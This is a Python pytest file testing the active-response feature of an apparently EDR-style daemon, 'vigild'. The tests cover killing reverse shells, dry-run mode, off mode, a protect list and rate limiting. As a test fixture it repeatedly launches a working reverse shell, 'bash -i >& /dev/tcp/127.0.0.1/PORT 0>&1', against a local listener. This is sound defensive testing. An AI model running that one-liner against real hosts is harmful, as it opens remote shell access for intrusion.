"""Active defense: rules marked `vigil: {response: kill}` act on their own.

A real reverse shell (bash -i with its stdio on a TCP socket to a local
listener) is started under a vigild whose response_mode is on, dry-run or
off; the shipped rule "shell with a network socket as stdin or stdout"
carries response: kill. The kill is timed in the kernel's own clock: from
the shell's exec event to its exit event. Every action (and every refusal)
must be on record: in `vigil actions` (state.db) and as a "response" event.
"""
import json
import os
import shutil
import tempfile
import signal
import socket
import subprocess
import time
from datetime import datetime

import pytest

from conftest import Vigild, clean_env, get

RULE = "7a413cd8-a1af-4737-b25c-5e149c4e84b4"


def ts_ns(ev):
    """@timestamp (RFC3339 with ns) as integer ns."""
    s = ev["@timestamp"]
    base, frac = s.rstrip("Z").split(".")
    sec = int(datetime.strptime(base, "%Y-%m-%dT%H:%M:%S").replace(tzinfo=None).timestamp())
    return sec * 1_000_000_000 + int(frac.ljust(9, "0")[:9])


class Listener:
    def __init__(self):
        self.s = socket.socket()
        self.s.bind(("127.0.0.1", 0))
        self.s.listen(16)
        self.port = self.s.getsockname()[1]

    def close(self):
        self.s.close()


def reverse_shell(vd, port):
    """bash -i on a socket, leader of its own session, with an empty HOME:
    the shells its ~/.bashrc would start are alerts and actions of their
    own, which would take this test's rate-limit slots."""
    home = os.path.join(vd.workdir, "home")
    os.makedirs(home, exist_ok=True)
    return subprocess.Popen(["bash", "-c", f"exec bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"],
                            stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                            start_new_session=True, env=clean_env(home))


def end(p):
    """Kills the shell's whole session, so nothing it started outlives the test."""
    try:
        os.killpg(p.pid, signal.SIGKILL)
    except ProcessLookupError:
        pass
    p.wait()


@pytest.fixture(scope="module")
def vd():
    if os.geteuid() != 0:
        pytest.skip("scenario tests need root")
    work = tempfile.mkdtemp(prefix="vigil-active-")
    d = Vigild(work, "response_mode = on\nmetrics_interval = 2\n",
               extra_args=["--alerts-out", os.path.join(work, "alerts.jsonl")])
    yield d
    d.stop()
    shutil.rmtree(work, ignore_errors=True)


def configure(vd, text):
    """Rewrites the daemon's configuration and reloads it (SIGHUP)."""
    text += "\nmetrics_interval = 2\nbpf_pin_dir = /sys/fs/bpf/" + os.path.basename(vd.workdir) + "\n"
    with open(vd.config_path, "w") as f:
        f.write(text)
    def done(text):
        # the rules rebuild on a thread of their own after the reload line;
        # wait for it too, or it takes a CPU (Hyperscan compile) while the
        # test times a kill
        return (text.count("configuration reloaded"),
                text.count(" on reload") + text.count("rules reload failed"))
    before = done(vd.stderr_text())
    vd.proc.send_signal(signal.SIGHUP)
    deadline = time.time() + 30
    while True:
        now = done(vd.stderr_text())
        if now[0] > before[0] and now[1] > before[1]:
            break
        assert time.time() < deadline, "no reload: " + vd.stderr_text()[-500:]
        time.sleep(0.05)


def actions(vd):
    r = vd.vigil("actions", "--json", "--store", os.path.join(vd.workdir, "store"))
    return [json.loads(line) for line in r.stdout.splitlines() if line.strip()]


def wait_action(vd, pred, timeout=10):
    deadline = time.time() + timeout
    while time.time() < deadline:
        for a in actions(vd):
            if pred(a):
                return a
        time.sleep(0.1)
    raise AssertionError(f"no matching action in {actions(vd)}")


def shell_exec(vd, pid):
    return vd.wait_for(lambda e: e["event"]["action"] == "exec" and e["process"]["pid"] == pid
                       and get(e, "vigil.stdio.stdin.type") == "socket", what=f"exec of {pid}")


def test_kill_reverse_shell_within_100ms(vd):
    configure(vd, "response_mode = on")
    lst = Listener()
    try:
        p = reverse_shell(vd, lst.port)
        try:
            rc = p.wait(timeout=5)
        except subprocess.TimeoutExpired:
            end(p)
            raise AssertionError("the reverse shell was not killed within 5 s")
        assert rc == -signal.SIGKILL, rc
        ex = shell_exec(vd, p.pid)
        dead = vd.wait_for(lambda e: e["event"]["action"] == "exit" and e["process"]["pid"] == p.pid,
                           what="exit of the shell")
        assert get(dead, "vigil.exit_signal") == 9 or get(dead, "process.exit_code") is not None
        lat_ms = (ts_ns(dead) - ts_ns(ex)) / 1e6
        assert 0 <= lat_ms < 100, f"killed {lat_ms:.1f} ms after its exec"
        a = wait_action(vd, lambda a: a["action"] == "kill" and a["actor"] == "rule:" + RULE
                        and a["target"] == f"pid {p.pid}" and a["result"] == "ok")
        assert a["automatic"] is True and a["mode"] == "on"
        assert any(k["pid"] == p.pid for k in a["detail"]["killed"])
        # the action is an event too (the stream and the store)
        ev = vd.wait_for(lambda e: e["event"]["action"] == "response"
                         and get(e, "vigil.response.target") == f"pid {p.pid}", what="response event")
        assert get(ev, "vigil.response.result") == "ok"
        # and the engine does not match our own response events
        time.sleep(0.3)
    finally:
        lst.close()


def test_dry_run_only_records(vd):
    configure(vd, "response_mode = dry-run")
    lst = Listener()
    p = reverse_shell(vd, lst.port)
    try:
        shell_exec(vd, p.pid)
        a = wait_action(vd, lambda a: a["action"] == "kill" and a["target"] == f"pid {p.pid}")
        assert a["result"] == "dry-run" and a["mode"] == "dry-run"
        time.sleep(0.5)
        assert p.poll() is None, "dry-run must not kill"
    finally:
        end(p)
        lst.close()


def test_off_does_nothing(vd):
    configure(vd, "response_mode = off")
    lst = Listener()
    p = reverse_shell(vd, lst.port)
    try:
        shell_exec(vd, p.pid)
        vd.wait_for_alert(lambda a: a.get("rule", {}).get("id") == RULE and a["process"]["pid"] == p.pid)
        time.sleep(0.5)
        assert p.poll() is None
        assert not [a for a in actions(vd) if a["target"] == f"pid {p.pid}"]
    finally:
        end(p)
        lst.close()


def test_protect_list(vd):
    # bash is protected: the rule's kill is refused and recorded
    configure(vd, "response_mode = on\nresponse_protect = /usr/bin/ba*")
    lst = Listener()
    p = reverse_shell(vd, lst.port)
    try:
        shell_exec(vd, p.pid)
        a = wait_action(vd, lambda a: a["action"] == "kill" and a["target"] == f"pid {p.pid}")
        assert a["result"].startswith("refused") and "protect list" in a["result"], a
        time.sleep(0.3)
        assert p.poll() is None
    finally:
        end(p)
        lst.close()


def test_rate_limit(vd):
    # a reload starts a new one-minute window
    configure(vd, "response_mode = on\nresponse_max_per_min = 1")
    lst = Listener()
    shells = []
    try:
        first = reverse_shell(vd, lst.port)
        shells.append(first)
        try:
            assert first.wait(timeout=5) == -signal.SIGKILL
        except subprocess.TimeoutExpired:
            raise AssertionError(f"first shell not killed; actions: {actions(vd)}")
        second = reverse_shell(vd, lst.port)
        shells.append(second)
        shell_exec(vd, second.pid)
        a = wait_action(vd, lambda a: a["target"] == f"pid {second.pid}")
        assert a["result"].startswith("refused: rate limit"), a
        assert second.poll() is None
    finally:
        for s in shells:
            end(s)
        lst.close()


def test_exited_target_takes_no_slot(vd):
    """An alert whose process has exited by the time the responder acts is
    recorded as skipped and leaves the rate limit's slot to a live one.
    vigild is stopped while three short-lived shells on a socket run, so
    they are certainly gone when it reads their exec events."""
    configure(vd, "response_mode = on\nresponse_max_per_min = 1")
    lst = Listener()
    home = os.path.join(vd.workdir, "home")
    os.makedirs(home, exist_ok=True)
    dead, live = [], None
    vd.proc.send_signal(signal.SIGSTOP)
    try:
        for _ in range(3):
            p = subprocess.Popen(["bash", "-c", f"exec bash -c 'exit 0' >& /dev/tcp/127.0.0.1/{lst.port} 0>&1"],
                                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                                 start_new_session=True, env=clean_env(home))
            assert p.wait(timeout=10) == 0
            dead.append(p.pid)
        live = reverse_shell(vd, lst.port)
        time.sleep(0.3)
    finally:
        vd.proc.send_signal(signal.SIGCONT)
    try:
        try:
            assert live.wait(timeout=5) == -signal.SIGKILL
        except subprocess.TimeoutExpired:
            raise AssertionError(f"live shell not killed; actions: {actions(vd)}")
        for pid in dead:
            a = wait_action(vd, lambda a, pid=pid: a["target"] == f"pid {pid}")
            assert a["result"].startswith("skipped: the process has exited"), a
        st = json.loads(vd.vigil("status", "--json").stdout)
        assert st["response"]["skipped"] >= len(dead), st["response"]
    finally:
        if live:
            end(live)
        lst.close()
